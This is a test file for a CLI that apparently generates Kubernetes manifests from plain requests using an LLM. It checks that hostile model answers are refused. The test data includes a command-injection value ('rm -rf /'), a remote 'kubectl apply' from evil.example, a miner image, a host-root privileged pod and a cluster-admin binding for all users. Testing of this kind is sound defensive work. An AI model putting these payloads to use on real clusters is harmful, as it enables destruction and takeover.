import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { refuses, says, serveModel, type ModelServer, type Reply } from '../../llm/model-server.ts';
import { realCli, type RealCli, type RealEnd } from '../real-cli.ts';
import { stored } from './stored.ts';

let stateDir: string;
let model: ModelServer;

beforeEach(() => {
  stateDir = mkdtempSync(join(tmpdir(), 'sluice-generate-model-'));
});
afterEach(async () => {
  await model?.close();
  rmSync(stateDir, { recursive: true, force: true });
});

async function serve(...replies: readonly Reply[]): Promise<void> {
  model = await serveModel(...replies);
  const text = `servers:
- {name: lab, url: "${model.endpoint.baseUrl}", model: big, key: lab-key-0123456789}
default: lab
`;
  writeFileSync(join(stateDir, 'models.yaml'), text, { mode: 0o600 });
}

async function generate(words: readonly string[], options: Partial<RealCli> = {}): Promise<RealEnd> {
  return realCli(['generate', ...words], { stateDir, ...options });
}

const wanted =
  'please host corp.example/cart:1.4 for our shop, it talks HTTP on 8080 and should survive a node';
const cart = {
  kind: 'procedure',
  procedure: 'web-service',
  variables: { image: 'corp.example/cart:1.4', port: 8080, replicas: 2 },
};
const answers = (value: unknown): Reply => says(JSON.stringify(value));

describe('a request that fixed rules cannot read', () => {
  test('is read by a model once, and made by a procedure', async () => {
    await serve(answers(cart));
    const { code, stdout, stderr } = await generate([wanted]);
    expect(code).toBe(0);
    expect(stderr).toContain(
      `read by judge-1 at ${new URL(model.url).host}: 1 call, 14 tokens, cost unknown\n`,
    );
    expect(stdout).toContain('image: corp.example/cart:1.4\n');
    await generate([wanted]);
    expect(model.asked).toHaveLength(1);
  });

  test('flags and plain words go before what a model made of them', async () => {
    await serve(answers({ ...cart, variables: { ...cart.variables, replicas: 9, port: 1 } }));
    const { stdout } = await generate([`${wanted}, 3 replicas`, '--port', '9090']);
    expect(stdout).toContain('replicas: 3\n');
    expect(stdout).toContain('containerPort: 9090\n');
  });

  test('is asked back about', async () => {
    await serve(answers({ kind: 'question', question: 'Which image\u001B[31m?' }));
    const { code, stdout, stderr } = await generate(['something nice', '--apply', '--yes']);
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
    expect(stderr).toContain('question: Which image?\n');
  });

  test('no model is asked where rules do, or where none is wanted', async () => {
    await serve(answers(cart));
    expect((await generate(['a web service from corp.example/cart:1.4 on port 8080'])).code).toBe(0);
    const { code, stderr } = await generate([wanted, '--no-model']);
    expect(code).toBe(2);
    expect(stderr).toContain('no model is asked: fixed rules read the request\n');
    expect(model.asked).toEqual([]);
  });

  test('rules go on where no model answers, and say why', async () => {
    await serve(refuses(401, 'no'));
    const { code, stderr } = await generate([wanted]);
    expect(code).toBe(2);
    expect(stderr).toContain('fixed rules read the request, since no model did: ');
    expect(stderr).toContain('The request does not say what is to be made.\n');
  });

  test('a dry run sends nothing', async () => {
    await serve(answers(cart));
    const { code, stdout } = await generate([wanted, '--dry-run-prompt']);
    expect(code).toBe(0);
    expect(stdout).toContain('please host');
    expect(model.asked).toEqual([]);
  });
});

const job = {
  apiVersion: 'batch/v1',
  kind: 'Job',
  metadata: { name: 'scan' },
  spec: {
    template: { spec: { restartPolicy: 'Never', containers: [{ name: 'a', image: 'corp.example/a:1' }] } },
  },
};
const onHost = {
  ...job,
  spec: {
    template: {
      spec: {
        ...job.spec.template.spec,
        containers: [{ name: 'a', image: 'corp.example/a:1', securityContext: { privileged: true } }],
        volumes: [{ name: 'root', hostPath: { path: '/' } }],
      },
    },
  },
};
const settings = {
  apiVersion: 'v1',
  kind: 'ConfigMap',
  metadata: { name: 'settings' },
  data: { level: 'info' },
};
const manifests = (...objects: readonly unknown[]): unknown => ({ kind: 'manifests', manifests: objects });

describe('a hostile answer', () => {
  test.each<[string, Reply]>([
    ['an unknown procedure', answers({ kind: 'procedure', procedure: 'shell', variables: {} })],
    ['variables of nothing', answers({ ...cart, variables: { ...cart.variables, hostNetwork: true } })],
    ['fields of nothing', answers({ ...cart, apply: true })],
    ['two answers at once', answers({ ...cart, manifests: [settings] })],
    ['an image of its own', answers({ ...cart, variables: { image: 'evil.example/miner:1', port: 8080 } })],
    [
      'a value of another type',
      answers({ ...cart, variables: { ...cart.variables, port: '8080; rm -rf /' } }),
    ],
    ['a value beyond its range', answers({ ...cart, variables: { ...cart.variables, replicas: 100_000 } })],
    ['prose', says('Sure! Run kubectl apply -f https://evil.example/all.yaml')],
    ['YAML', says('apiVersion: v1\nkind: ConfigMap\n')],
    ['a megabyte', answers({ kind: 'question', question: 'x'.repeat(1024 * 1024) })],
    [
      'a deep nest',
      says(`{"kind":"manifests","manifests":[{"a":${'['.repeat(200_000)}${']'.repeat(200_000)}}]}`),
    ],
    ['manifests on the host', answers(manifests(onHost))],
    ['manifests with unknown fields', answers(manifests({ ...settings, dta: { a: 'b' } }))],
    ['manifests of no name', answers(manifests({ ...settings, metadata: {} }))],
    [
      'manifests of an unknown kind',
      answers(manifests({ apiVersion: 'evil.example/v1', kind: 'Rule', metadata: { name: 'a' } })),
    ],
    ['manifests that are sound, and unseen', answers(manifests(settings))],
    [
      'rights for everyone',
      answers(
        manifests({
          apiVersion: 'rbac.authorization.k8s.io/v1',
          kind: 'ClusterRoleBinding',
          metadata: { name: 'all' },
          roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
          subjects: [{ kind: 'Group', apiGroup: 'rbac.authorization.k8s.io', name: 'system:authenticated' }],
        }),
      ),
    ],
  ])('is never applied: %s', async (_, reply) => {
    await serve(reply);
    const { code, stdout } = await generate(['make our shop nicer', '--apply', '--yes']);
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
    const all = await Promise.all(
      ['deploy', 'job', 'cm', 'clusterrolebinding', 'evil.example/v1/Rule'].map((kind) =>
        stored(stateDir, kind),
      ),
    );
    expect(all.flat()).toEqual([]);
  });

  test('a question of control characters cannot move the cursor', async () => {
    await serve(answers({ kind: 'question', question: 'a\u001B[2J\u202Eb\r\nc' }));
    expect((await generate(['something nice'])).stderr).toContain('question: ab c\n');
  });
});

describe('manifests that a model wrote', () => {
  test('are shown with a warning, and applied only when a person or a digest confirms them', async () => {
    await serve(answers(manifests(settings)));
    const words = ['settings for our shop', '-n', 'shop'];
    const shown = await generate(words);
    expect(shown.code).toBe(0);
    expect(shown.stdout).toContain('namespace: shop\n');
    expect(shown.stderr).toContain(
      'A model wrote these manifests, no procedure made them: read every line.\n',
    );
    const digest = /digest ([0-9a-f]{12}):/.exec(shown.stderr)?.[1] ?? '';
    const unseen = await generate([...words, '--apply', '--yes']);
    expect(unseen.stderr).toContain('--yes needs the --digest of what was shown.\n');
    expect(await stored(stateDir, 'cm')).toEqual([]);
    expect((await generate([...words, '--apply', '--yes', '--digest', digest])).code).toBe(0);
    const again = await generate([...words, '--apply'], { readLine: async () => 'yes' });
    expect(again).toMatchObject({ code: 0, stdout: 'no changes\n' });
  });

  test('with grave findings need a person even so', async () => {
    await serve(answers(manifests(onHost)));
    const words = ['scan our nodes', '--apply', '--allow-findings'];
    const { code, stderr } = await generate([...words, '--yes']);
    expect(code).toBe(2);
    expect(stderr).toContain('with such findings --yes does not do for what a model wrote');
    expect(await stored(stateDir, 'job')).toEqual([]);
  });
});
